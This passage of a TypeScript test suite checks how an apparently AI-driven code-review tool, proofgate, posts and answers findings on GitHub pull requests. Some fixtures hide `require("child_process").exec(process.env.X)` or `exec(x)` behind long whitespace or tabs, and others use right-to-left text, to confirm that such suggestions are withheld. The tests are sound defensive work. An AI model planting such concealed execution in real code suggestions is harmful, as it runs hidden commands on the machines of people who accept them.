      `No longer reported: proofgate's review of ${headSha(p.repo).slice(0, 12)} does not report this, and whether the lines it quoted are still there could not be told (their file is not in the checkout, or is too large to search within the run's bound), so it is not taken as fixed.`,
    ]);
    expect(took).toBeLessThan(10_000);
  });
});

describe('#551 a finding whose lines moved, unchanged, to another file of the change', () => {
  const replies = () => github().reviewComments.filter((c) => c.in_reply_to_id !== undefined);
  /** total() and its loop bug, the first function of the shop. */
  const TOTAL = SHOP_V2.slice(0, SHOP_V2.indexOf('}\n') + 2);
  /**
   * A first run's thread on total()'s loop (a token that may resolve), then total() moved byte for
   * byte to `to` (no rename: shop.js stays, its first function now in another file), the thread outdated.
   */
  const movedTotal = async (to: string) => {
    const p = pullRepo();
    github().token = { pat: { login: 'octo-reviewer', type: 'User' } };
    await evidence(p, [F_LOOP]);
    verdictKept(await gate(p));
    const [loop] = inline(github());
    writeFileSync(join(p.repo, 'src/shop.js'), SHOP_V2.slice(TOTAL.length));
    mkdirSync(join(p.repo, dirname(to)), { recursive: true });
    writeFileSync(join(p.repo, to), TOTAL);
    commitAll(p.repo, `move total() into ${to}`);
    for (const c of github().reviewComments) c.line = null;
    return { p, loop, at: headSha(p.repo).slice(0, 12) };
  };

  for (const reported of [false, true])
    it(`#551 total() moved from src/shop.js to a new src/total.js byte for byte (the agent ${reported ? 'reports it there' : 'reports nothing'}), with a token that may resolve: its thread is answered ${reported ? 'Moved' : 'No longer reported'}, never "Fixed" nor resolved`, async () => {
      const { p, loop, at } = await movedTotal('src/total.js');
      const completed = ['src/shop.js', 'src/total.js'].map((path) => ({ path, outcome: 'completed' }));
      await evidence(p, reported ? [{ ...F_LOOP, path: 'src/total.js' }] : [], completed);
      verdictKept(await gate(p), reported ? 'findings' : 'clean');
      expect(replies().map((c) => c.in_reply_to_id)).toEqual([loop!.id]);
      expect(replies()[0]!.body.split('\n').slice(1).join('\n')).toBe(
        reported
          ? `Moved: proofgate's review of ${at} finds these lines in \`src/total.js\` as a high correctness finding (\`F1\`); it comments that there, or lists it.`
          : `No longer reported: proofgate's review of ${at} does not report this, but the lines it quoted are still in the change, so it is not taken as fixed.`,
      );
      expect(github().resolvedThreads.size).toBe(0);
    });

  for (const to of ['vendor/total.js', 'dist/total.min.js'])
    it(`#556 total() moved byte for byte into ${to}, a file the review leaves out (vendored or built) and a person acknowledged: its thread is answered No longer reported, never "Fixed" nor resolved`, async () => {
      const { p, loop, at } = await movedTotal(to);
      await evidence(p, [], [{ path: 'src/shop.js', outcome: 'completed' }]);
      const r = await gate(p, { acknowledge: to });
      expect(r.outputs.verdict).toBe('clean');
      expect(
        JSON.parse(readFileSync(join(folderOf(p.repo, 'pr-7'), 'scope.json'), 'utf8')).excluded.map((e: { path: string }) => e.path),
      ).toContain(to);
      expect(
        replies().map((c) => c.in_reply_to_id),
        r.stdout,
      ).toEqual([loop!.id]);
      expect(replies()[0]!.body.split('\n').slice(1).join('\n')).toBe(
        `No longer reported: proofgate's review of ${at} does not report this, but the lines it quoted are still in the change, so it is not taken as fixed.`,
      );
      expect(github().resolvedThreads.size).toBe(0);
    });
});

/** A second review of pull request 7 (its own id, the default check name), its evidence clean: where the #548 and #550 cases start. */
const cleanSecondReview = async (p: Pull) => {
  expect((await cliCase(p.repo, ['review', 'scope', 'pr-7-codex', '--base', p.base])).code).toBe(0);
  writeFindings(p.repo, 'pr-7-codex', []);
  writeCoverage(p.repo, 'pr-7-codex', [{ path: 'src/shop.js', outcome: 'completed' }], { run: { stop: 'completed' } });
};

describe('#548 a second review published by `review publish` under the check name the first one holds', () => {
  it("#548 its clean publish fails, naming the first review, and posts, dismisses and answers nothing of the first one's review", async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }));
    const reviewed = github().reviews.map((r) => r.state);
    expect(reviewed).toEqual(['CHANGES_REQUESTED']);
    await cleanSecondReview(p);
    Object.assign(github().pull, { repo: p.repo, baseSha: p.base, headSha: headSha(p.repo) });
    const env = { ...ENV_CANARIES, GITHUB_API_URL: github().url, GITHUB_REPOSITORY: 'acme/shop' };
    const r = await cliCase(p.repo, ['review', 'publish', 'pr-7-codex', '--pr', '7', '--mode', 'request-changes'], env);
    expect(r.code).toBe(2);
    expect(r.stdout).toMatch(/check run name .proofgate review. is also used on this commit by review .pr-7./);
    expect(github().reviews.map((x) => x.state)).toEqual(reviewed);
    expect(github().reviewComments.filter((c) => c.in_reply_to_id !== undefined)).toEqual([]);
  });
});

describe("#549 a review-gate run under the check name test-review's run holds on the commit", () => {
  it("#549 a clean run does not stand for test-review's Block: the latest run under the name fails and the verdict is incomplete", async () => {
    const p = pullRepo();
    await evidence(p, []);
    // test-review's run under the same name, as src/github/test-review-publisher.ts writes it.
    github().checkRuns.push({
      id: 5,
      name: 'proofgate review',
      head_sha: headSha(p.repo),
      external_id: 'proofgate-test-review:claude',
      status: 'completed',
      conclusion: 'failure',
      started_at: null,
      completed_at: null,
      output: { title: 'Test quality: Block', summary: 'Block', text: null, annotations_count: 0 },
      annotations: [],
    });
    const r = await gate(p);
    expect(r.outputs.verdict).toBe('incomplete');
    const latest = github().checkRuns.at(-1)!;
    expect([latest.conclusion, latest.output.title]).toEqual(['failure', 'passed alone; check name shared with review test-review:claude']);
  });
});

describe('#550 the sarif-file output of a run made incomplete when it publishes (a check name another review holds)', () => {
  it('#550 is empty: the final verdict is incomplete, so code scanning is given nothing to close the first review alerts with', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    const first = await gate(p, { 'sarif-file': 'proofgate-pr-7.sarif' });
    expect(first.outputs.verdict).toBe('findings');
    expect(JSON.parse(readFileSync(first.outputs['sarif-file']!, 'utf8')).runs[0].results).toHaveLength(1);
    await cleanSecondReview(p);
    const second = await gate(p, { id: 'pr-7-codex', 'sarif-file': 'proofgate-pr-7-codex.sarif' });
    expect(second.outputs.verdict).toBe('incomplete');
    expect(second.outputs['sarif-file'] ?? '').toBe('');
  });
});

describe('#564 a suggested line whose code lies out of sight (past the view, or after a wide gap)', () => {
  const FIXED = '  for (let i = 0; i < items.length; i++) sum += items[i].price;'; // 63 columns
  it.each([
    ['400 spaces, then code', `${FIXED}${' '.repeat(400)}require("child_process").exec(process.env.X);`],
    ['a gap of 17 spaces within 120 columns', `${FIXED}${' '.repeat(17)}exec(x);`],
    ['three tabs (17 columns or more at any stop)', `${FIXED}\t\t\texec(x);`],
    ['121 columns, no gap', `${FIXED} // ${'x'.repeat(54)}`],
    ['121 columns of East Asian wide characters (94 characters)', `${FIXED} // ${'\u6f22'.repeat(27)}`],
    ['a second line past the view', `${FIXED}\n  audit(sum);${' '.repeat(120)}exec(x);`],
  ])('#564 a suggestion with %s is not offered; the comment is', (_what, suggestion) => withheld(suggestion));

  it('#564 ordinary code (aligned comments, a tab, deep indentation, lines up to 120 columns) still makes a suggestion', async () => {
    const kept = [
      `${FIXED}${' '.repeat(16)}// aligned`,
      `${FIXED}\t// after a tab`,
      `${' '.repeat(48)}audit(sum);`,
      `${FIXED} // ${'x'.repeat(53)}`,
      `${FIXED} // ${'\u6f22'.repeat(26)}`,
    ].join('\n');
    const p = pullRepo();
    await evidence(p, [{ ...F_LOOP, suggestion: `${kept}\n` }]);
    verdictKept(await gate(p));
    expect(inline(github()).slice(-1)[0]!.body).toContain(`\`\`\`suggestion\n${kept}\n\`\`\``);
  });
});

describe('#617 a finding comment an older proofgate wrote (its marker without shown: and quote:)', () => {
  /** The marker as an older proofgate wrote it: no word of what its comment showed or where its quote is. */
  const asOlderProofgate = () => {
    for (const c of github().reviewComments) c.body = c.body.replace(/ shown:[0-9a-f]{16} quote:[0-9a-f]{16}\.\d+ -->/, ' -->');
  };
  const repliesTo = (id: number) => github().reviewComments.filter((c) => c.in_reply_to_id === id);

  for (const token of ['job', 'personal'] as const)
    it(`#617 a finding no longer reported on unchanged lines (${token} token): "No longer reported", never "Fixed" nor resolved`, async () => {
      const p = pullRepo();
      if (token === 'personal') github().token = { pat: { login: 'octo-reviewer', type: 'User' } };
      await evidence(p, [F_LOOP, F_HEAD]);
      await gate(p);
      const [loop] = inline(github());
      asOlderProofgate();
      expect(loop!.body.split('\n')[0]).toMatch(/^<!-- proofgate-review:proofgate-review finding:[0-9a-f]{24} -->$/);
      // The agent no longer reports the loop, whose line is as it was.
      await evidence(p, [F_HEAD]);
      verdictKept(await gate(p));
      const [answer, ...more] = repliesTo(loop!.id);
      expect(more).toEqual([]);
      expect(answer?.body).toContain(`No longer reported: proofgate's review of ${headSha(p.repo).slice(0, 12)} does not report this`);
      expect(answer?.body).not.toContain('Fixed');
      expect(github().resolvedThreads.size).toBe(0);
    });

  it('#617 a low finding raised to critical on the same lines: commented again, and its old thread answered "Changed"', async () => {
    const p = pullRepo();
    await evidence(p, [F_HEAD]);
    await gate(p);
    const [low] = inline(github());
    asOlderProofgate();
    await evidence(p, [{ ...F_HEAD, severity: 'critical' }]);
    verdictKept(await gate(p));
    const all = inline(github());
    expect(all).toHaveLength(2);
    expect(all[1]!.body.split('\n')[1]).toMatch(/^\*\*critical · maintainability\*\*/);
    expect(repliesTo(low!.id).map((c) => c.body.split('\n')[0]!.replace(/[0-9a-f]{24}/, 'KEY'))).toEqual([
      '<!-- proofgate-review:proofgate-review changed:KEY -->',
    ]);
  });
});

describe('#647 two open findings of one identity (path, category, quote)', () => {
  const TWIN = {
    ...F_LOOP,
    id: 'F9',
    content: 'SECOND PROBLEM: the price is read without a currency check.',
    suggestion: '  for (let i = 0; i < items.length; i++) sum += convert(items[i].price);\n',
  };
  /** Every finding id the review shows: in an inline comment or listed in its body. */
  const idsShown = () => [...inline(github()).map((c) => c.body), ...github().reviews.map((r) => r.body ?? '')].join('\n');

  it('#647 both are in the review (one comment holds both, neither suggestion offered): the ids it shows are the open located ids', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP, { ...TWIN, severity: 'critical' }, F_OFF]);
    verdictKept(await gate(p));
    const shown = idsShown();
    expect(new Set(shown.match(/`F\d+`/g))).toEqual(new Set(['`F1`', '`F9`', `\`${F_OFF.id}\``]));
    expect(shown).toContain('SECOND PROBLEM');
    const comments = inline(github());
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).not.toContain('```suggestion');
  });

  it('#647 a twin of the same severity joining a standing comment is commented (the old thread answered "Changed"), and stays commented once the first is refuted', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    await gate(p);
    expect(inline(github())).toHaveLength(1);
    await evidence(p, [F_LOOP, TWIN]);
    verdictKept(await gate(p));
    const second = inline(github());
    expect(second).toHaveLength(2);
    expect(
      github()
        .reviewComments.filter((c) => c.in_reply_to_id === second[0]!.id)
        .map((c) => c.body),
    ).toEqual([expect.stringContaining('Changed:')]);
    expect(second[1]!.body).toContain('`F9`');
    expect(second[1]!.body).toContain('`F1`');
    await evidence(p, [{ ...F_LOOP, disposition: 'refuted', refutation: 'items is never empty' }, TWIN]);
    verdictKept(await gate(p));
    const last = inline(github()).at(-1)!;
    expect(last.body).toContain('`F9`');
    expect(last.body).not.toContain('`F1`');
  });
});

/** The finding ids (`G<n>`, `M<n>`, `M<n>b`) a text shows in code spans. */
const idsIn = (text: string) => [...text.matchAll(/`([GM]\d+b?)`/g)].map((m) => m[1]!);
/** The bullets of a review body's list, one a finding. */
const bulletsOf = (body: string) => body.split('\n').filter((l) => l.startsWith('- **'));

describe('#682 a comment holding many findings of one quote, past GitHub’s size', () => {
  /** `n` findings of about `bytes` of words each (a field holds 20,000 characters: the rest is evidence). */
  const padded = (n: number, bytes: number) =>
    Array.from({ length: n }, (_, i) => ({
      ...F_LOOP,
      id: `G${i}`,
      content: `Reviewer ${i}: ` + 'x'.repeat(Math.min(bytes, 15_000)),
      evidence: 'y'.repeat(Math.max(1, bytes - 15_000)),
    }));

  it.each([
    ['40 findings of 2.5 KB', 40, 2500],
    ['3 findings of 30 KB', 3, 30_000],
  ])(
    '#682 %s on one quote: every finding keeps its whole head line in the one comment, its words cut to a share',
    async (_what, n, bytes) => {
      const p = pullRepo();
      await evidence(p, padded(n, bytes));
      verdictKept(await gate(p));
      const comments = inline(github());
      expect(comments).toHaveLength(1);
      const body = comments[0]!.body;
      expect(Buffer.byteLength(body)).toBeLessThanOrEqual(65_536);
      for (let i = 0; i < n; i++)
        expect(body).toContain(`**high · correctness** · \`G${i}\` · _confirmed, high confidence_\n\nReviewer ${i}: x`);
      expect(body.match(/characters omitted \(the check run has the whole finding\)/g)).toHaveLength(n);
      expect(bulletsOf(github().reviews[0]!.body)).toEqual([]);
    },
  );

  it('#682 300 findings on one quote: those whose head lines do not fit are listed in the body, each id published once, the counts exact', async () => {
    const p = pullRepo();
    await evidence(p, padded(300, 300));
    const r = await gate(p);
    verdictKept(r);
    const comments = inline(github());
    expect(comments).toHaveLength(1);
    const review = github().reviews[0]!.body;
    const inComment = idsIn(comments[0]!.body);
    const inBody = idsIn(review);
    expect(inComment.length).toBeGreaterThan(100);
    expect([...inComment, ...inBody].sort()).toEqual(Array.from({ length: 300 }, (_, i) => `G${i}`).sort());
    const moved = 300 - inComment.length;
    expect(review).toContain(`${moved} finding(s) not commented inline (their quote's comment is full): listed below.`);
    expect(review).toContain(`#### Not commented inline (${moved})`);
    expect(bulletsOf(review)).toHaveLength(moved);
    for (const b of bulletsOf(review)) expect(b).toContain("(its quote's inline comment is full)");
    expect(r.stdout).toMatch(new RegExp(`pull request review \\d+: 1 inline comment\\(s\\), ${moved} listed in the body`));
    expect(review).not.toMatch(/in no comment and no list/);
  });
});

describe('#683 the totals a review publishes count findings, not comments', () => {
  it('#683 1,200 findings in 600 comments: 1,000 ids inline, the 200 beyond the cap counted and listed as 200', async () => {
    const { p, findings } = manyFindings('twin', 600);
    const twins = (findings as { id: string }[]).flatMap((f) => [
      f,
      { ...f, id: `${f.id}b`, severity: 'critical', content: 'second reviewer: critical' },
    ]);
    await evidence(p, twins, [{ path: 'src/twin.js', outcome: 'completed' }]);
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github())).toHaveLength(500);
    const inComments = inline(github()).flatMap((c) => idsIn(c.body));
    const body = github().reviews[0]!.body;
    expect(inComments).toHaveLength(1000);
    expect(body).toContain('200 finding(s) beyond 500 inline comments a run are listed below; a later run comments them.');
    expect(body).toContain('#### Not commented inline (200)');
    const listed = bulletsOf(body).length;
    const unlisted = Number(/^… and (\d+) more finding\(s\) not listed/m.exec(body)?.[1] ?? 0);
    expect(listed + unlisted).toBe(200);
    expect(new Set([...inComments, ...idsIn(bulletsOf(body).join('\n'))]).size).toBe(1000 + listed);
    expect(r.stdout).toMatch(new RegExp(`pull request review \\d+: 500 inline comment\\(s\\), ${listed} listed in the body`));
  });

  it('#683 review comments unread (flooded), two findings on one quote: the body counts 2 and lists 2', async () => {
    const p = pullRepo();
    for (let i = 0; i <= MAX_ITEMS; i++) github().addReviewComment(7, { path: 'src/shop.js', line: 1, body: `nit ${i}`, user: MALLORY });
    await evidence(p, [F_LOOP, { ...F_LOOP, id: 'F7', severity: 'critical', content: 'other reviewer' }]);
    const r = await gate(p);
    verdictKept(r);
    const body = github().reviews[0]!.body;
    expect(body).toContain('2 finding(s) are listed below, not commented inline');
    expect(body).toContain('#### Not commented inline (2)');
    expect(bulletsOf(body)).toHaveLength(2);
    expect(r.stdout).toMatch(/pull request review \d+: 0 inline comment\(s\), 2 listed in the body/);
  });
});

describe('#684 a one-click suggestion drawn in another order than committed (right-to-left text, no control)', () => {
  it.each([
    ['Hebrew letters before digits', '  for (let i = 0; i < items.length; i++) sum += clamp(items[i].price, "מחיר", 1, 1000);'],
    ['a Hebrew letter before a comparison', '  for (let i = 0; i < items.length; i++) if (role == "א" || 0 < 1) sum += items[i].price;'],
    ['an Arabic letter', '  for (let i = 0; i < items.length; i++) sum += clamp(items[i].price, "م", 1, 2);'],
    ['Arabic-Indic digits (bidi class AN)', '  for (let i = 0; i < items.length; i++) sum += items[i].price * \u0661\u0660;'],
    ['a Syriac letter', '  for (let i = 0; i < items.length; i++) sum += clamp(items[i].price, "\u0710", 1, 2);'],
    ['a Thaana letter', '  for (let i = 0; i < items.length; i++) sum += clamp(items[i].price, "\u0780", 1, 2);'],
  ])('#684 a suggestion holding %s is not offered; the finding is, saying why', async (_what, suggestion) => {
    await withheld(`${suggestion}\n`);
    const body = inline(github()).slice(-1)[0]!.body;
    expect(body).toContain('No change to commit is offered: its code holds right-to-left text');
  });
});
